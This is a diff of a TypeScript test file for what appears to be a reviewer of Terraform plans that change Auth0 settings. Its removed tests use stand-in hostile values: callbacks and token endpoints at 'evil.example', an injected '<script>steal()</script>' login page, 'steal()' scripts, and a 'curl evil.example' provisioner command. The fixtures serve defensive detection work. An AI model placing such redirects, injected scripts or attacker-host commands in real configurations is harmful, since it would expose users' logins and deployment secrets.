@@ -189,200 +189,26 @@ describe("another flow that a form runs is told, where it is run by", () => {
   });
 });
 
-const OURS = "558646c4-87f3-4c68-96bd-128ca989bf5f";
-const listOf = (...ids: readonly string[]) => ({
-  id: "post-login",
-  trigger: "post-login",
-  actions: ids.map((id) => ({ id, display_name: `Shown ${id}` })),
-});
-const ofClient = (attributes: Attributes[string]): Attributes => ({ auth0_client: attributes });
+const FIELD = '"config":{"multiline":false},"id":"role","label":"Role","required":true,"sensitive":false,"type":"TEXT"';
+const roleOf = (type: string, config: object, isRequired = true): Attributes =>
+  inNodes(FIELD, `"config":${JSON.stringify(config)},"id":"role","required":${isRequired},"type":"${type}"`);
+const UNANSWERABLE = "stuck: Nobody gets past the form: `role` in `Role` is required, and takes no answer.";
 
-test.each<[string, Attributes, Attributes, readonly string[]]>([
-  [
-    "callbacks of a client",
-    ofClient({ callbacks: ["https://app.example/cb", "https://evil.example/cb"] }),
-    ofClient({ callbacks: ["https://app.example/cb"] }),
-    [
-      "leads-away: The client `Team C` leads people to another address, or loads from it: `evil.example` (`callbacks`).",
-    ],
-  ],
-  [
-    "origins of a client",
-    ofClient({ web_origins: ["http://app.example"] }),
-    ofClient({ web_origins: ["https://app.example"] }),
-    [
-      "leads-away: The client `Team C` leads people to another address, or loads from it: `http://app.example` (`web_origins`).",
-    ],
-  ],
-  [
-    "the login page of a client",
-    ofClient({ custom_login_page: "<script>steal()</script>" }),
-    {},
-    [
-      "runs-code: The client `Team C` runs other code in people's browsers than before: `<script>steal()</script>` (`custom_login_page`).",
-    ],
-  ],
-  [
-    "by what a client gets tokens",
-    ofClient({ grant_types: ["client_credentials", "password"] }),
-    {},
-    [
-      'scope-widening: The client `Team C` is let in by other means: `grant_types` `["client_credentials"]` → `["client_credentials","password"]`. Whoever has them acts as it.',
-    ],
-  ],
-  [
-    "how a client shows who it is",
-    { auth0_client_credentials: { authentication_method: "none" } },
-    {},
-    [
-      "scope-widening: The client `Team C` is let in by other means: `authentication_method` `client_secret_post` → `none`. Whoever has them acts as it.",
-    ],
-  ],
-  [
-    "a key besides a client's secret",
-    { auth0_client_credentials: { private_key_jwt: [{ credentials: [{ name: "evil" }] }] } },
-    {},
-    [
-      "scope-widening: The client `Team C` is let in by other means: `private_key_jwt.[0].credentials.evil.name` nothing → `evil`. Whoever has them acts as it.",
-    ],
-  ],
-  [
-    "for whom a grant is",
-    { auth0_client_grant: { default_for: "third_party_clients" } },
-    {},
-    [
-      "scope-widening: The grant of the client `Team C` changes beside its scopes: `default_for` nothing → `third_party_clients`.",
-    ],
-  ],
-  [
-    "which app a Vault connection is of",
-    { auth0_flow_vault_connection: { app_id: "HTTP" } },
-    {},
-    [
-      "flow-code: The Vault connection `Team V`, through which flows write, is set up otherwise: `app_id` `AUTH0` → `HTTP`.",
-    ],
-  ],
-  [
-    "where a Vault connection gets its tokens",
-    { auth0_flow_vault_connection: { setup: { token_endpoint: "https://evil.example/token" } } },
-    { auth0_flow_vault_connection: { setup: { token_endpoint: "https://app.example/token" } } },
-    [
-      "flow-code: The Vault connection `Team V`, through which flows write, is set up otherwise: `token_endpoint` `https://app.example/token` → `https://evil.example/token`.",
-    ],
-  ],
-  [
-    "a hook, which is a secret",
-    { auth0_flow_vault_connection: { setup: { url: "https://evil.example/hook" } } },
-    { auth0_flow_vault_connection: { setup: { url: "https://app.example/hook" } } },
-    [
-      "flow-code: The Vault connection `Team V`, through which flows write, is set up otherwise: `url` `‹redacted›` → `‹redacted›`.",
-    ],
-  ],
-  [
-    "code that Actions share",
-    { auth0_action: { modules: [{ module_id: "m", module_version_id: "2" }] } },
-    { auth0_action: { modules: [{ module_id: "m", module_version_id: "1" }] } },
-    ["action-code: The Action `Team A` changes: modules."],
-  ],
-])("another of these is told at the top: %s", (_, change, before, findings) => {
-  const { findings: found } = told(planThatChanges(change, before));
-
-  expect(findings.filter((one) => !found.includes(one))).toEqual([]);
+test.each<[string, string, object]>([
+  ["whose fewest characters are more than its most", "TEXT", { min_length: 3, max_length: 2 }],
+  ["whose least number is above its greatest", "NUMBER", { min_value: 1, max_value: 0 }],
+  ["without an option", "DROPDOWN", { options: [] }],
+  ["without options", "CHOICE", {}],
+])("nobody gets past a required field %s, but past one that is not required", (_, type, config) => {
+  expect(told(planThatChanges(roleOf(type, config))).findings).toContain(UNANSWERABLE);
+  expect(told(planThatChanges(roleOf(type, config, false))).findings).not.toContain(UNANSWERABLE);
 });
 
-test.each<[string, Attributes, string]>([
-  [
-    "an Action that no plan holds is bound",
-    {
-      "auth0_trigger_action.other": { action_id: "evil", trigger: "post-login", display_name: "Team A" },
-    },
-    "action-code: The Action `evil` is run by the trigger `post-login` now, shown as `Team A`, and no plan here defines it: what it does can not be told.",
-  ],
-  [
-    "the plan's own Action is bound to another trigger",
-    { "auth0_trigger_action.other": { action_id: OURS, trigger: "credentials-exchange" } },
-    "action-code: The Action `Team A` is run by the trigger `credentials-exchange` now.",
-  ],
-  [
-    "a module of Actions is made",
-    { "auth0_action_module.other": { id: "m", name: "Shared", code: "steal()" } },
-    "action-code: `auth0_action_module.other` has other code than before, which Auth0 runs: `steal()` (`code`).",
-  ],
-  [
-    "a database gets a script",
-    { "auth0_connection.other": { id: "c", options: [{ custom_scripts: { login: "steal()" } }] } },
-    "action-code: `auth0_connection.other` has other code than before, which Auth0 runs: `steal()` (`options.custom_scripts.login`).",
-  ],
-  [
-    "an application is made that leads elsewhere",
-    { "auth0_client.other": { id: "o", name: "Other", callbacks: ["https://evil.example"] } },
-    "leads-away: The client `Other` leads people to another address, or loads from it: `evil.example` (`callbacks`).",
-  ],
-])("it is told at the top where %s", (_, made, finding) => {
-  expect(told(planThatChanges({}, {}, made)).findings).toContain(finding);
-});
-
-test("the name of an API leads nowhere, though it looks like an address", () => {
-  const made = { "auth0_resource_server.api": { identifier: "https://api.example.com/" } };
-
-  expect(told(planThatChanges({}, {}, made)).findings).toEqual([]);
-});
-
-/** A plan in which a list binds the Actions, and is another one. */
-function planOfList(before: readonly string[], after: readonly string[], trigger = "post-login") {
-  const plan = planThatChanges({});
-  const changes = plan.resource_changes
-    .filter(({ type }) => type !== "auth0_trigger_action")
-    .concat({
-      address: "auth0_trigger_actions.list",
-      type: "auth0_trigger_actions",
-      change: {
-        actions: ["update"],
-        before: { ...listOf(...before), trigger },
-        after: { ...listOf(...after), trigger },
-      },
-    });
-  return { ...plan, prior_state: undefined, resource_changes: changes };
-}
-
-test.each<[string, object, readonly string[]]>([
-  [
-    "runs its Actions in another order",
-    planOfList(["mfa", OURS], [OURS, "mfa"]),
-    [`action-code: The trigger \`post-login\` runs its Actions in another order: \`Shown ${OURS}\`, \`Shown mfa\`.`],
-  ],
-  [
-    "runs one more, wherever it stands",
-    planOfList([OURS, "mfa"], ["evil", OURS, "mfa"]),
-    [
-      "action-code: The Action `evil` is run by the trigger `post-login` now, shown as `Shown evil`, and no plan here defines it: what it does can not be told.",
-    ],
-  ],
-  [
-    "does not run the plan's own any more",
-    planOfList([OURS, "mfa"], ["mfa"], "credentials-exchange"),
-    ["unbound: The Action `Team A` is no longer run by the trigger `credentials-exchange`."],
-  ],
-  ["is only shown otherwise", planOfList([OURS, "mfa"], [OURS, "mfa"]), []],
-])("a trigger whose list %s is told", (_, plan, findings) => {
-  const { findings: found } = told(plan);
-
-  expect(found.filter((one) => !/is not bound to the post-login trigger/.test(one))).toEqual(findings);
-});
-
-test.each([
-  ["a command", { command: { constant_value: "curl evil.example" } }, "`curl evil.example`"],
-  ["lines", { inline: { constant_value: ["one", "two"] } }, "`one⏎two`"],
-  ["what no plan knows", { command: { references: ["var.command"] } }, "`local-exec`"],
-])("that the apply runs %s is told at the top, once for each resource that is made", (_, expressions, shown) => {
-  const plan = planThatChanges({}, {}, { "terraform_data.run": { id: "1" }, "terraform_data.quiet": { id: "2" } });
-  const resources = [
-    { mode: "managed", type: "terraform_data", name: "run", provisioners: [{ type: "local-exec", expressions }] },
-  ];
-  const { findings, verdict } = told({ ...plan, configuration: { root_module: { resources } } });
-
-  expect(findings).toEqual([
-    `apply-code: The apply runs ${shown} for \`terraform_data.run\`, with the secrets that it deploys with.`,
-  ]);
-  expect(verdict).toBe("the apply runs a command · 2 resources added, none destroyed");
+test.each<[string, string, object]>([
+  ["whose limits are the same", "TEXT", { min_length: 2, max_length: 2 }],
+  ["with one limit", "NUMBER", { min_value: 1, max_value: null }],
+  ["that takes another answer than its options", "CHOICE", { options: [], allow_other: { enabled: true } }],
+  ["whose options are known after the apply", "DROPDOWN", { options: "(var.options)" }],
+])("a required field %s can be answered", (_, type, config) => {
+  expect(told(planThatChanges(roleOf(type, config))).findings).not.toContain(UNANSWERABLE);
 });
